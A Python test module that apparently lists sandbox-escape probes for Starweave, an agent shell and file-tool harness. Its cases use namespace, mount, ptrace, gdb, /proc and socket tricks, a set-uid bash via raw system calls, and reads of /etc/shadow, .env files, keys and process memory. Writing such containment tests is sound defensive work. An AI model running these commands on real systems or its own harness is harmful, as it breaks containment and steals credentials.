"""What a real shell reaches through ``python3 -c`` and the shell's own tools: Starweave's process
(signals, descriptors, limits, scheduling: a normal user under Landlock has no PID namespace),
direct system calls with ctypes (unshare, mount, setns, ptrace, keyrings, io_uring, set-id bits
through the x32 and i386 ABIs), sockets (the network, local daemons, datagram sockets made by
``socketpair``), and namespace, mount, ptrace and ``/proc`` tricks with unshare, nsenter, gdb and
strace."""

from __future__ import annotations

from hostile.attackcode import SYSCALL, TRY, pyc
from hostile.casebook import CaseBook, read, sh, write

BOOK = CaseBook("syscalls")
add = BOOK.add
SETUID_COPY = sh("cp /bin/bash rootsh")

# ---- Starweave's own process -------------------------------------------------------------------------
add(
    "py-signal-starweave",
    "os.kill, killpg and pidfd_send_signal on Starweave",
    pyc(
        SYSCALL,
        "t(os.kill, @SWPID@, 19)",
        "t(os.killpg, os.getpgid(@SWPID@), 19)",
        "t(os.kill, -1, 19)",
        'fd = sc("pidfd_open", @SWPID@, 0)',
        "if fd >= 0:",
        '    sc("pidfd_send_signal", fd, 9, None, 0)',
    ),
)
add(
    "py-pidfd-getfd-starweave",
    "pidfd_getfd takes Starweave's open descriptors and writes through them",
    pyc(
        SYSCALL,
        'p = sc("pidfd_open", @SWPID@, 0)',
        "for n in range(64):",
        '    fd = libc.syscall(NR["pidfd_getfd"][COL], p, n, 0) if p >= 0 else -1',
        "    if fd >= 0:",
        '        print(n, os.readlink("/proc/self/fd/%d" % fd))',
        '        t(os.write, fd, b"pwned")',
    ),
)
add(
    "py-limits-of-starweave",
    "prlimit on Starweave: eight open files and one second of CPU would kill it",
    pyc(
        TRY,
        "t(resource.prlimit, @SWPID@, resource.RLIMIT_NOFILE, (8, 8))",
        "t(resource.prlimit, @SWPID@, resource.RLIMIT_CPU, (1, 1))",
        "t(resource.prlimit, @SWPID@, resource.RLIMIT_AS, (1 << 24, 1 << 24))",
    ),
)
add(
    "prlimit-tool-starweave",
    "the prlimit tool on Starweave",
    sh("prlimit --pid @SWPID@ --nofile=8:8 --cpu=1:1; prlimit --pid @SWPID@"),
)
add(
    "py-scheduling-of-starweave",
    "nice, SCHED_IDLE, affinity and the I/O class of Starweave (and of every process of the user)",
    pyc(
        SYSCALL,
        "t(os.setpriority, os.PRIO_PROCESS, @SWPID@, 19)",
        "t(os.setpriority, os.PRIO_USER, os.getuid(), 19)",
        "t(os.setpriority, os.PRIO_USER, 0, 19)",
        "t(os.setpriority, os.PRIO_PGRP, os.getpgid(@SWPID@), 19)",
        "t(os.sched_setscheduler, @SWPID@, os.SCHED_IDLE, os.sched_param(0))",
        "t(os.sched_setaffinity, @SWPID@, {0})",
        'sc("ioprio_set", 1, @SWPID@, 3 << 13)',
        'sc("ioprio_set", 3, os.getuid(), 3 << 13)',
        'sc("ioprio_set", 3, 0, 3 << 13)',
    ),
)
add(
    "renice-tools-starweave",
    "renice, ionice, chrt and taskset on Starweave and on the user's processes",
    sh(
        "renice -n 19 -p @SWPID@; renice -n 19 -u $(id -u); ionice -c 3 -p @SWPID@; "
        "chrt -i -p 0 @SWPID@; taskset -p 1 @SWPID@; true"
    ),
)
add(
    "proc-oom-score-starweave",
    "raise Starweave's OOM score so that the kernel kills it first",
    sh(
        "echo 1000 > /proc/@SWPID@/oom_score_adj; echo 1 > /proc/@SWPID@/timerslack_ns; "
        "cat /proc/@SWPID@/oom_score_adj"
    ),
)

# ---- python3 -c with ctypes: direct system calls -------------------------------------------------------
add(
    "ctypes-unshare-user-mount",
    "unshare(CLONE_NEWUSER|CLONE_NEWNS), map root, bind the outside folder and write through it",
    sh("mkdir -p x"),
    pyc(
        SYSCALL,
        "uid = os.getuid()",
        'if sc("unshare", 0x10000000 | 0x20000) == 0:',
        '    t(lambda: open("/proc/self/setgroups", "w").write("deny"))',
        '    t(lambda: open("/proc/self/uid_map", "w").write("0 %d 1" % uid))',
        'sc("mount", b"@OUT@", b"x", None, 4096, None)',
        'sc("mount", b"none", b"/etc", b"tmpfs", 0, None)',
        't(lambda: open("x/@MARK@", "w").write("pwned"))',
        't(lambda: open("/etc/@MARK@", "w").write("pwned"))',
    ),
)
add(
    "ctypes-unshare-each-namespace",
    "unshare(2) of every namespace type alone, clone with CLONE_NEWUSER and clone3",
    pyc(
        SYSCALL,
        "for flag in (0x20000, 0x4000000, 0x8000000, 0x40000000, 0x20000000, 0x2000000, 0x80, 0x10000000):",
        '    sc("unshare", flag)',
        'sc("clone", 0x10000000 | 17, 0, 0, 0, 0)',
        'sc("clone3", None, 0)',
    ),
)
add(
    "ctypes-mount-family",
    "mount, remount, lazy unmount of /, open_tree, fsopen, pivot_root and chroot",
    sh("mkdir -p m"),
    pyc(
        SYSCALL,
        'sc("mount", None, b"/", None, 32 | 4096, None)',
        'sc("mount", b"/", b"m", None, 4096 | 0x4000, None)',
        'sc("umount2", b"/", 2)',
        'sc("open_tree", -100, b"/", 1 | 0x80000)',
        'sc("fsopen", b"tmpfs", 0)',
        'sc("pivot_root", b".", b"m")',
        'sc("chroot", b"m")',
        't(lambda: open("/etc/@MARK@", "w").write("pwned"))',
    ),
)
add(
    "ctypes-setns-starweave",
    "setns(2) into Starweave's and PID 1's namespaces",
    pyc(
        SYSCALL,
        "for pid in (@SWPID@, 1):",
        '    for ns in ("mnt", "user", "pid", "net", "ipc", "uts", "cgroup"):',
        "        try:",
        '            fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)',
        "        except OSError as e:",
        "            print(pid, ns, e)",
        "            continue",
        '        sc("setns", fd, 0)',
        't(lambda: open("@OUT@/@MARK@", "w").write("pwned"))',
    ),
)
add(
    "ctypes-ptrace-starweave",
    "ptrace attach and seize, and process_vm_readv of Starweave's memory",
    pyc(
        SYSCALL,
        'sc("ptrace", 16, @SWPID@, 0, 0)',
        'sc("ptrace", 0x4206, @SWPID@, 0, 0)',
        "buf = ctypes.create_string_buffer(4096)",
        "local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 4096)",
        "remote = (ctypes.c_void_p * 2)(0x400000, 4096)",
        'sc("process_vm_readv", @SWPID@, local, 1, remote, 1, 0)',
    ),
)
add(
    "ctypes-kernel-surfaces",
    "keyctl, add_key, request_key, io_uring, bpf, perf_event_open, userfaultfd and memfd_secret",
    pyc(
        SYSCALL,
        'sc("keyctl", 0, -4, 0)',
        'sc("add_key", b"user", b"sw", b"secret", 6, -4)',
        'sc("request_key", b"user", b"sw", None, 0)',
        'sc("io_uring_setup", 8, ctypes.create_string_buffer(120))',
        'sc("bpf", 0, ctypes.create_string_buffer(64), 64)',
        'sc("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)',
        'sc("userfaultfd", 0)',
        'sc("memfd_secret", 0)',
    ),
)
add(
    "ctypes-open-by-handle",
    "name_to_handle_at then open_by_handle_at of a file outside (the shocker escape)",
    pyc(
        SYSCALL,
        "handle = ctypes.create_string_buffer(136)",
        'ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)',
        "mount_id = ctypes.c_int()",
        'sc("name_to_handle_at", -100, b"@OUT@/.env", handle, ctypes.byref(mount_id), 0)',
        'd = os.open("/", os.O_RDONLY)',
        'fd = sc("open_by_handle_at", d, handle, 0)',
        "if fd >= 0:",
        "    print(os.read(fd, 200))",
    ),
)
INT80 = (
    # mov eax, 15 (chmod in the i386 table); mov ebx, PATH; mov ecx, 04755; int 0x80; ret
    'code = b"\\xb8\\x0f\\x00\\x00\\x00\\xbb" + (page + 64).to_bytes(4, "little")',
    'code += b"\\xb9\\xed\\x09\\x00\\x00\\xcd\\x80\\xc3"',
)
add(
    "ctypes-x32-and-int80",
    "a set-id chmod through the x32 system call ABI and through int 0x80 (the i386 ABI)",
    SETUID_COPY,
    pyc(
        SYSCALL,
        'if platform.machine() == "x86_64":',
        "    sys.stdout.flush()",
        "    pid = os.fork()",
        "    if pid == 0:",
        '        libc.syscall(0x40000000 | 90, b"rootsh", 0o4755)',
        "        os._exit(0)",
        '    print("x32 child:", os.waitpid(pid, 0)[1])',
        "    libc.mmap.restype = ctypes.c_void_p",
        "    page = libc.mmap(None, 4096, 7, 0x2 | 0x20 | 0x40, -1, 0)",
        '    ctypes.memmove(page + 64, b"rootsh\\0", 7)',
        *("    " + line for line in INT80),
        "    ctypes.memmove(page, code, len(code))",
        "    pid = os.fork()",
        "    if pid == 0:",
        "        ctypes.CFUNCTYPE(ctypes.c_int)(page)()",
        "        os._exit(0)",
        '    print("int 0x80 child:", os.waitpid(pid, 0)[1])',
        'print(oct(os.stat("rootsh").st_mode))',
    ),
)

# ---- python3 -c with socket ------------------------------------------------------------------------------
add(
    "pysock-tcp-udp",
    "TCP and UDP to the canary port on 127.0.0.1 and ::1",
    pyc(
        TRY,
        't(socket.create_connection, ("127.0.0.1", @PORT@), 3)',
        't(socket.create_connection, ("::1", @PORT@), 3)',
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        't(u.sendto, b"pwned", ("127.0.0.1", @PORT@))',
    ),
)
add(
    "pysock-unix-daemons",
    "connect to the unix sockets of local daemons (stream, seqpacket and datagram)",
    pyc(
        TRY,
        'for p in ("/run/swh-svc/api.sock", "/tmp/ssh-swh/agent.sock", "@BASE@/run/db.sock",',
        '          "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):',
        "    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):",
        "        def go(p=p, kind=kind):",
        "            s = socket.socket(socket.AF_UNIX, kind)",
        "            s.connect(p)",
        '            return s.send(b"pwned")',
        "        t(go)",
        "def dgram(addr):",
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)",
        '    return s.sendto(b"pwned", addr)',
        't(dgram, "/run/swh-svc/log.sock")',
        't(dgram, "@BASE@/run/log.sock")',
        't(dgram, "\\0swh-canary-dg")',
    ),
)
add(
    "pysock-abstract",
    "connect to the abstract unix socket of the host",
    pyc(TRY, "s = socket.socket(socket.AF_UNIX)", 't(s.connect, "\\0swh-canary")', 't(s.send, b"pwned")'),
)
add(
    "pysock-socketpair-sendto",
    "an unconnected datagram socket from socketpair() sends to a logger's socket by its address",
    pyc(
        TRY,
        "flags = socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK",
        "kinds = (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_DGRAM | flags, 5, socket.SOCK_STREAM)",
        "for kind in kinds:",
        "    try:",
        "        a, b = socket.socketpair(socket.AF_UNIX, kind)",
        "    except OSError as e:",
        "        print(kind, e)",
        "        continue",
        '    for addr in ("/run/swh-svc/log.sock", "@BASE@/run/log.sock", "\\0swh-canary-dg"):',
        '        t(a.sendto, b"pwned", addr)',
    ),
)
add(
    "pysock-families",
    "socket(2) of every address family (vsock to the host, packet, netlink, bluetooth ...)",
    pyc(
        TRY,
        "ok = []",
        "for fam in range(1, 46):",
        "    for kind in (1, 2, 3, 5):",
        "        try:",
        "            socket.socket(fam, kind).close()",
        "            ok.append((fam, kind))",
        "        except OSError:",
        "            pass",
        'print("opened", ok)',
        "t(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 52)))",
        "t(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))",
    ),
)
add(
    "shell-network-tools",
    "bash /dev/tcp and /dev/udp, nc -U and logger to the canary services",
    sh(
        "echo pwned > /dev/tcp/127.0.0.1/@PORT@; echo pwned > /dev/udp/127.0.0.1/@PORT@; "
        "echo pwned | nc -U /run/swh-svc/api.sock; echo pwned | nc -uU /run/swh-svc/log.sock; "
        "logger -u /run/swh-svc/log.sock pwned; logger -u @BASE@/run/log.sock pwned; true"
    ),
)

# ---- unshare, mount, ptrace and /proc tricks with the shell's own tools ---------------------------------
add(
    "ns-unshare-root-mount",
    "unshare -r -m, then bind mounts and a tmpfs over /etc",
    sh(
        "mkdir -p x; unshare -r -m sh -c "
        "'mount --bind @OUT@ x; mount -t tmpfs t /etc; echo pwned > x/@MARK@; id'"
    ),
)
add("ns-unshare-shadow", "unshare -r cat /etc/shadow", sh("unshare -r cat /etc/shadow; unshare -U -r id"))
add(
    "ns-unshare-pid",
    "unshare -rpf --mount-proc, then kill everything",
    sh("unshare -rpf --mount-proc sh -c 'ps aux; kill -9 -1'"),
)
add(
    "ns-unshare-mount-only",
    "unshare -m without a user namespace",
    sh("mkdir -p x; unshare -m sh -c 'mount --bind / x && touch x/etc/@MARK@'"),
)
add(
    "ns-nsenter-starweave",
    "nsenter into Starweave's and PID 1's namespaces",
    sh(
        "nsenter -t @SWPID@ -a sh -c 'cat @BASE@/.env; touch @OUT@/@MARK@'; "
        "nsenter -t 1 -m -p -n sh -c 'touch /etc/@MARK@'"
    ),
)
add(
    "mount-tools",
    "mount --bind, tmpfs, proc and remount with the mount tool",
    sh(
        "mkdir -p a b c; mount --bind @OUT@ a; mount -t tmpfs none b; mount -t proc proc c; "
        "mount -o remount,rw /; mount -o remount,rw,bind @OUT@; umount -l /; touch /etc/@MARK@ a/@MARK@"
    ),
)
add(
    "gdb-attach-starweave",
    "gdb -p Starweave: call system() in it and dump its environment",
    sh(
        "gdb -p @SWPID@ -batch -ex 'call (int)system(\"touch @OUT@/@MARK@\")' "
        "-ex 'x/40s *(char **)environ' -ex detach 2>&1 | tail -40"
    ),
)
add(
    "gcore-starweave",
    "gcore Starweave, then search the core",
    sh("gcore -o core @SWPID@; strings core.* | grep -i -e key -e token"),
)
add(
    "strace-starweave",
    "strace -p Starweave with long strings",
    sh(
        "timeout 4 strace -f -p @SWPID@ -s 4096 -o trace.txt; cat trace.txt; "
        "strace -p 1 -e trace=none & sleep 1; kill %1"
    ),
)
add(
    "proc-starweave-files",
    "Starweave's environ, cmdline, mem and open files through /proc",
    sh(
        "cat /proc/@SWPID@/environ /proc/@SWPID@/cmdline; "
        "dd if=/proc/@SWPID@/mem bs=4096 skip=1024 count=16; "
        "ls -l /proc/@SWPID@/fd/; cat /proc/@SWPID@/fd/* | head -c 20000"
    ),
)
add(
    "proc-starweave-cwd-root",
    "Starweave's cwd (the user's home) and root through /proc",
    sh(
        "cat /proc/@SWPID@/cwd/.env /proc/@SWPID@/root@BASE@/.env; "
        "echo pwned >> /proc/@SWPID@/cwd/.bashrc; cd /proc/@SWPID@/cwd && touch @MARK@; "
        "ls /proc/@SWPID@/root/"
    ),
)
add(
    "proc-every-cwd-root",
    "the cwd and root of every process",
    sh(
        "for p in /proc/[0-9]*; do cat $p/cwd/.env $p/root@OUT@/.env; touch $p/cwd/@MARK@; "
        "done 2>/dev/null; true"
    ),
)
add(
    "proc-self-fd-tricks",
    "/proc/self/fd: reopen every inherited descriptor, write through a descriptor of a folder outside",
    sh(
        "ls -l /proc/self/fd/ /proc/$$/fd/; for f in /proc/$$/fd/*; do echo pwned >> $f; done 2>/dev/null; "
        "exec 7<@OUT@; echo pwned > /proc/self/fd/7/@MARK@; cat /proc/self/fd/7/.env /proc/$$/fd/7/deploy.pem"
    ),
)
add(
    "proc-self-root-write",
    "/proc/self/root and /proc/$$/root to files outside",
    sh(
        "echo pwned > /proc/self/root@OUT@/@MARK@; echo pwned >> /proc/$$/root@HOME@/.bashrc; "
        "cat /proc/self/root@BASE@/.env"
    ),
)
# (each writes the value already set, or sysrq's harmless "h": a hole shows as a marker, and the
# kernel of the shared machine keeps its settings)
add(
    "proc-sys-writes",
    "kernel settings: core_pattern would run a program as root on the next crash; sysrq",
    sh(
        "for f in kernel/core_pattern fs/protected_hardlinks kernel/modprobe; do "
        "v=$(cat /proc/sys/$f) && printf '%s\\n' \"$v\" > /proc/sys/$f && echo SWSYSCTL-WRITTEN $f; done; "
        "echo h > /proc/sysrq-trigger && echo SWSYSCTL-WRITTEN sysrq; true"
    ),
    forbid=("SWSYSCTL-WRITTEN",),
)
add(
    "file-tool-proc-paths",
    "read_file and write_file through Starweave's own /proc/self (cwd, root and descriptors)",
    read("/proc/@SWPID@/cwd/.env"),
    read("/proc/self/root@BASE@/.env"),
    read("/proc/self/environ"),
    write("/proc/@SWPID@/cwd/@MARK@", "pwned"),
    write("/proc/self/root@OUT@/@MARK@", "pwned"),
    write("/proc/self/fd/1", "pwned"),
)
